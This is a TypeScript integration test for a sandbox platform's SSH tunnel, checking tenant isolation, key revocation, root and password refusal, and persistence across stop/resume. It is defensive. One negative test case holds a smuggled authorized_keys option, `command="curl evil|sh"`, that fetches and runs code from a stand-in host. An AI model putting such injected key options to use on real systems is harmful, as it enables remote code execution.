// SSH into a sandbox, on the real SandboxManager, Docker engine, LevelDB store, operator API and
// sidecar image, with Debian's real ssh and scp clients going through the API's WebSocket tunnel
// (testing/ssh-proxy.mjs as ProxyCommand). Attacks first: SSH off (no key) opens nothing, another
// tenant's wallet and another tenant's key get nothing, a password is never asked for, root is
// refused, a revoked key is refused and its open session ends, no sshd listens on any network;
// then the owner's shell and scp, and the keys surviving stop/resume.
import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pino from 'pino';
import { Registry } from 'prom-client';
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { SessionAuth } from '../auth/index.ts';
import { currentSuiteRuntime, makeRig, sidecarExec, type TestRig } from '../sandbox/testing/rig.ts';
import { createOperatorApi } from './app.ts';
import { type OperatorApiServer, serveOperatorApi } from './serve.ts';
import { signInOverHttp } from './testing/sign-in.ts';

const image = inject('sandboxImage');
const PROXY = new URL('./testing/ssh-proxy.mjs', import.meta.url).pathname;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function run(
  cmd: string,
  args: string[],
  env: Record<string, string> = {},
  input?: string,
  onStdout?: (s: string) => void,
): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { env: { ...process.env, ...env }, stdio: ['pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => {
      stdout += d.toString();
      onStdout?.(d.toString());
    });
    child.stderr.on('data', (d: Buffer) => {
      stderr += d.toString();
    });
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
    child.stdin.end(input ?? '');
  });
}

describe('SSH into a real sandbox through the API tunnel', () => {
  let rig: TestRig;
  let server: OperatorApiServer;
  let dir: string;
  let id: string;
  let otherId: string;
  const owner = privateKeyToAccount(generatePrivateKey());
  const tenant = privateKeyToAccount(generatePrivateKey());
  const tokens = new Map<string, string>();

  const call = async (method: string, path: string, who: typeof owner, body?: unknown) => {
    const res = await fetch(`${server.url}${path}`, {
      method,
      headers: {
        authorization: `Bearer ${tokens.get(who.address)}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    // biome-ignore lint/suspicious/noExplicitAny: test convenience
    return { status: res.status, json: (await res.json().catch(() => undefined)) as any };
  };
  const keyFile = (name: string) => join(dir, name);
  const pub = async (name: string) => (await readFile(`${keyFile(name)}.pub`, 'utf8')).trim();
  const sshArgs = (sid: string, key: string, extra: string[] = [], base = server.url) => [
    '-F',
    'none',
    '-i',
    keyFile(key),
    '-o',
    'IdentitiesOnly=yes',
    '-o',
    'BatchMode=yes',
    '-o',
    `UserKnownHostsFile=${join(dir, 'known_hosts')}`,
    '-o',
    'StrictHostKeyChecking=accept-new',
    '-o',
    'ConnectTimeout=60',
    '-o',
    `ProxyCommand=node ${PROXY} ${base.replace(/^http/, 'ws')}/api/sandboxes/${sid}/ssh/tunnel`,
    ...extra,
  ];
  const ssh = (who: typeof owner, sid: string, key: string, command: string, extra: string[] = []) =>
    run('ssh', [...sshArgs(sid, key, extra), `agent@${sid}`, command], {
      SSH_TEST_TOKEN: tokens.get(who.address)!,
    });
  /** A live `ssh … 'echo in; exec cat'` session: `saw` resolves once stdout holds the text. */
  const openSession = (sid: string, key: string) => {
    const child = spawn('ssh', [...sshArgs(sid, key), `agent@${sid}`, 'echo in; exec cat'], {
      env: { ...process.env, SSH_TEST_TOKEN: tokens.get(owner.address)! },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let out = '';
    let err = '';
    const waiters: Array<() => void> = [];
    child.stdout.on('data', (d: Buffer) => {
      out += d.toString();
      for (const w of [...waiters]) w();
    });
    child.stderr.on('data', (d: Buffer) => {
      err += d.toString();
    });
    const exited = new Promise<number | null>((resolve) => child.on('close', (c) => resolve(c)));
    const saw = (text: string) =>
      new Promise<void>((resolve, reject) => {
        const check = () => {
          if (out.includes(text)) resolve();
        };
        waiters.push(check);
        check();
        void exited.then(() => reject(new Error(`ssh ended before "${text.trim()}": ${err}`)));
      });
    return { child, exited, saw };
  };
  const within = <T>(p: Promise<T>, ms: number, what: string) =>
    new Promise<T>((resolve, reject) => {
      const t = setTimeout(() => reject(new Error(what)), ms);
      p.then(
        (v) => {
          clearTimeout(t);
          resolve(v);
        },
        (e) => {
          clearTimeout(t);
          reject(e);
        },
      );
    });
  const sshdCount = async (sid: string) => {
    const r = await sidecarExec(rig.manager.sidecarEndpoint(sid), 'pgrep -c -x sshd || true');
    return Number(String((r as { stdout?: string }).stdout ?? r).trim() || 0);
  };

  /** An operator API over the rig's sandboxes on a free port (extra: its options, e.g. ssh: false). */
  const serveApi = async (extra: { ssh?: boolean }) => {
    let url = '';
    const sessions = await SessionAuth.create({
      secret: rig.secret,
      store: rig.store,
      siwe: { publicUrl: () => url, chainId: 31337 },
    });
    const api = createOperatorApi(
      {
        sessions,
        sandboxes: rig.manager,
        store: rig.store,
        metrics: new Registry(),
        logger: pino({ level: 'silent' }),
        mode: 'cloud',
        capabilities: {},
      },
      { ...extra, rateLimits: { read: 10_000, write: 10_000, auth: 100 } },
    );
    const served = await serveOperatorApi(api, { port: 0 });
    url = served.url;
    return served;
  };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'asbx-ssh-'));
    for (const k of ['owner', 'tenant', 'second', 'third'])
      await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', `${k}@test`, '-f', keyFile(k)]);
    rig = await makeRig(image);
    server = await serveApi({});
    const [a, b] = await Promise.all([
      rig.manager.create({ owner: owner.address, serviceId: 1, callId: 'ssh-int-1' }),
      rig.manager.create({
        owner: tenant.address,
        serviceId: 1,
        callId: 'ssh-int-2',
        sshPublicKey: await pub('tenant'),
      }),
    ]);
    id = a.id;
    otherId = b.id;
    for (const w of [owner, tenant]) tokens.set(w.address, await signInOverHttp(server.url, w));
  }, 180_000);

  afterAll(async () => {
    await server?.close();
    await rig?.cleanup();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('SSH off (no key): the tunnel is refused, and no sshd runs or listens in the sandbox', async () => {
    const view = await call('GET', `/api/sandboxes/${id}/ssh`, owner);
    expect(view.json).toMatchObject({ enabled: false, keys: [] });
    const r = await ssh(owner, id, 'owner', 'true');
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/tunnel refused: 409 .*SSH_DISABLED/);
    expect(await sshdCount(id)).toBe(0);
    // No sshd process means nothing of sshd listens; and neither 22 nor 2222 is open in the sandbox.
    const tcp = await sidecarExec(
      rig.manager.sidecarEndpoint(id),
      'awk \'$4=="0A"{print $2}\' /proc/net/tcp /proc/net/tcp6',
    );
    const ports = String((tcp as { stdout: string }).stdout)
      .trim()
      .split('\n')
      .map((l) => Number.parseInt(l.split(':')[1] ?? '', 16));
    expect(ports).toContain(8080);
    expect(ports).not.toContain(22);
    expect(ports).not.toContain(2222);
  });

  it("another tenant's wallet can neither add a key to nor open a tunnel into a sandbox that is not theirs", async () => {
    const add = await call('POST', `/api/sandboxes/${id}/ssh`, tenant, { public_key: await pub('tenant') });
    expect([403, 404]).toContain(add.status);
    expect((await call('GET', `/api/sandboxes/${id}/ssh`, owner)).json.keys).toEqual([]);
    // The tenant's own sandbox has SSH on with the tenant's key: the tunnel to the owner's is still refused.
    const r = await ssh(tenant, id, 'tenant', 'true');
    expect(r.stderr).toMatch(/tunnel refused: (403|404)/);
  });

  it('a key with options, two lines or a wrong type is refused at add, and nothing is stored', async () => {
    const k = await pub('owner');
    for (const bad of [
      `command="curl evil|sh" ${k}`,
      `${k}\n${await pub('tenant')}`,
      k.replace('ssh-ed25519', 'ssh-rsa'),
    ]) {
      const r = await call('POST', `/api/sandboxes/${id}/ssh`, owner, { public_key: bad });
      expect(r.status).toBe(400);
    }
    expect((await call('GET', `/api/sandboxes/${id}/ssh`, owner)).json.keys).toEqual([]);
  });

  it("the owner's key gets a shell as the agent user", async () => {
    const add = await call('POST', `/api/sandboxes/${id}/ssh`, owner, { public_key: await pub('owner') });
    expect(add.status).toBe(200);
    expect(add.json.key.fingerprint).toMatch(/^SHA256:/);
    expect(add.json.ssh.enabled).toBe(true);

    const shell = await ssh(
      owner,
      id,
      'owner',
      'id -un; echo $HOME; cat /proc/1/status | grep -c . >/dev/null && echo ok',
    );
    expect(shell.stderr).not.toMatch(/refused/);
    expect(shell.stdout).toBe('agent\n/home/agent\nok\n');
    expect(shell.code).toBe(0);
    // Under the suite's runtime (the runsc twin: gVisor's kernel answers this shell).
    const info = await rig.manager.driver.docker.getContainer(rig.manager.get(id).containerId!).inspect();
    expect(info.HostConfig.Runtime).toBe(currentSuiteRuntime());
  }, 120_000);

  it("scp works both ways with the owner's key", async () => {
    const local = join(dir, 'up.txt');
    await writeFile(local, 'through scp\n');
    const proxy = sshArgs(id, 'owner');
    const env = { SSH_TEST_TOKEN: tokens.get(owner.address)! };
    expect((await run('scp', [...proxy, local, `agent@${id}:workspace/up.txt`], env)).code).toBe(0);
    const back = join(dir, 'back.txt');
    expect((await run('scp', [...proxy, `agent@${id}:workspace/up.txt`, back], env)).code).toBe(0);
    expect(await readFile(back, 'utf8')).toBe('through scp\n');
  }, 120_000);

  it("another tenant's key and a password are refused by sshd", async () => {
    const env = { SSH_TEST_TOKEN: tokens.get(owner.address)! };
    // The tenant signs in to nothing here: the owner's session carries the tunnel, the tenant's key is refused by sshd.
    const foreign = await ssh(owner, id, 'tenant', 'true');
    expect(foreign.code).toBe(255);
    expect(foreign.stderr).toMatch(/Permission denied \(publickey\)/);

    // A password is never asked for: sshd offers publickey only (an askpass that answers is ready).
    const askpass = join(dir, 'askpass.sh');
    await writeFile(askpass, '#!/bin/sh\necho hunter2\n', { mode: 0o755 });
    const pw = await run(
      'ssh',
      [
        ...sshArgs(id, 'tenant', [
          '-o',
          'BatchMode=no',
          '-o',
          'PubkeyAuthentication=no',
          '-o',
          'PreferredAuthentications=password,keyboard-interactive',
        ]),
        `agent@${id}`,
        'true',
      ],
      { ...env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' },
    );
    expect(pw.code).toBe(255);
    expect(pw.stderr).toMatch(/Permission denied \(publickey\)/);
  }, 120_000);

  it('root and port forwarding are refused', async () => {
    const env = { SSH_TEST_TOKEN: tokens.get(owner.address)! };
    const root = await run('ssh', [...sshArgs(id, 'owner'), `root@${id}`, 'true'], env);
    expect(root.code).toBe(255);
    expect(root.stderr).toMatch(/Permission denied/);

    // No forwarding: a -L forward is refused by sshd.
    const fwd = await ssh(owner, id, 'owner', 'true', [
      '-o',
      'ExitOnForwardFailure=yes',
      '-L',
      '0:127.0.0.1:8080',
    ]);
    expect(fwd.code).not.toBe(0);
  }, 120_000);

  it('a revoked key is refused from then on; the other key still works', async () => {
    expect(
      (await call('POST', `/api/sandboxes/${id}/ssh`, owner, { public_key: await pub('second') })).status,
    ).toBe(200);
    const before = await ssh(owner, id, 'second', 'echo in');
    expect(before.stdout).toBe('in\n');
    const fp = (await call('GET', `/api/sandboxes/${id}/ssh`, owner)).json.keys.find(
      (k: { comment: string }) => k.comment === 'second@test',
    ).fingerprint as string;
    const del = await call('DELETE', `/api/sandboxes/${id}/ssh?fingerprint=${encodeURIComponent(fp)}`, owner);
    expect(del.status).toBe(200);
    const revoked = await ssh(owner, id, 'second', 'true');
    expect(revoked.code).toBe(255);
    expect(revoked.stderr).toMatch(/Permission denied \(publickey\)/);
    expect((await ssh(owner, id, 'owner', 'echo still')).stdout).toBe('still\n');
  }, 180_000);

  it("a revoked key's open session ends; another key's open session keeps working", async () => {
    for (const k of ['owner', 'third'])
      expect(
        (await call('POST', `/api/sandboxes/${id}/ssh`, owner, { public_key: await pub(k) })).status,
      ).toBe(200);
    // Two live sessions, each `cat` echoing its stdin back: key "third" (to be revoked) and "owner".
    const revoked = openSession(id, 'third');
    const kept = openSession(id, 'owner');
    await Promise.all([revoked.saw('in\n'), kept.saw('in\n')]);
    const fp = (await call('GET', `/api/sandboxes/${id}/ssh`, owner)).json.keys.find(
      (k: { comment: string }) => k.comment === 'third@test',
    ).fingerprint as string;
    const del = await call('DELETE', `/api/sandboxes/${id}/ssh?fingerprint=${encodeURIComponent(fp)}`, owner);
    expect(del.status).toBe(200);
    // The event: the revoked session's ssh process exits (the bound only turns a hang into a failure).
    const code = await within(revoked.exited, 60_000, "the revoked key's ssh session did not end");
    expect(code).not.toBe(0);
    // The other key's session still carries bytes both ways, then ends cleanly on EOF.
    kept.child.stdin.write('still here\n');
    await kept.saw('still here\n');
    kept.child.stdin.end();
    expect(await kept.exited).toBe(0);
  }, 180_000);

  it('the keys and the host key survive stop/resume; the last key gone, SSH is off', async () => {
    await rig.manager.stop(id);
    const stopped = await ssh(owner, id, 'owner', 'true');
    expect(stopped.stderr).toMatch(/tunnel refused: 409/);
    await rig.manager.resume(id);
    const again = await ssh(owner, id, 'owner', 'cat workspace/up.txt');
    expect(again.stdout).toBe('through scp\n');
    // The host key is the sandbox's own and stayed the same (known_hosts was written at first use).
    expect(again.stderr).not.toMatch(/HOST IDENTIFICATION HAS CHANGED/);

    const last = (await call('GET', `/api/sandboxes/${id}/ssh`, owner)).json.keys[0].fingerprint as string;
    const off = await call(
      'DELETE',
      `/api/sandboxes/${id}/ssh?fingerprint=${encodeURIComponent(last)}`,
      owner,
    );
    expect(off.json.enabled).toBe(false);
    expect((await ssh(owner, id, 'owner', 'true')).stderr).toMatch(/tunnel refused: 409 .*SSH_DISABLED/);
  }, 180_000);

  it('SANDBOX_SSH=false: the view says SSH is off though a key is stored, and the tunnel is refused', async () => {
    // The same sandboxes behind an operator API with SSH turned off: the tenant's has a key.
    const off = await serveApi({ ssh: false });
    try {
      const token = await signInOverHttp(off.url, tenant);
      const get = (path: string) =>
        fetch(`${off.url}${path}`, { headers: { authorization: `Bearer ${token}` } }).then((r) => r.json());
      const one = (await get(`/api/sandboxes/${otherId}`)) as { ssh: { enabled: boolean; keys: unknown[] } };
      expect(one.ssh.enabled).toBe(false);
      expect(one.ssh.keys).toHaveLength(1);
      const list = (await get('/api/sandboxes')) as {
        sandboxes: { id: string; ssh: { enabled: boolean } }[];
      };
      expect(list.sandboxes.find((x) => x.id === otherId)?.ssh.enabled).toBe(false);
      expect(((await get(`/api/sandboxes/${otherId}/ssh`)) as { enabled: boolean }).enabled).toBe(false);
      const tunnel = await run(
        'ssh',
        [...sshArgs(otherId, 'tenant', [], off.url), `agent@${otherId}`, 'true'],
        {
          SSH_TEST_TOKEN: token,
        },
      );
      expect(tunnel.code).toBe(255);
      expect(tunnel.stderr).toMatch(/tunnel refused: 422 .*SSH_UNAVAILABLE/);
    } finally {
      await off.close();
    }
  }, 120_000);

  it("create's ssh_public_key turns SSH on from the start (the tenant's own sandbox)", async () => {
    const r = await ssh(tenant, otherId, 'tenant', 'id -un');
    expect(r.stdout).toBe('agent\n');
    const view = await call('GET', `/api/sandboxes/${otherId}`, tenant);
    expect(view.json.ssh).toMatchObject({ enabled: true, tunnel: 'ssh/tunnel' });
  });
});
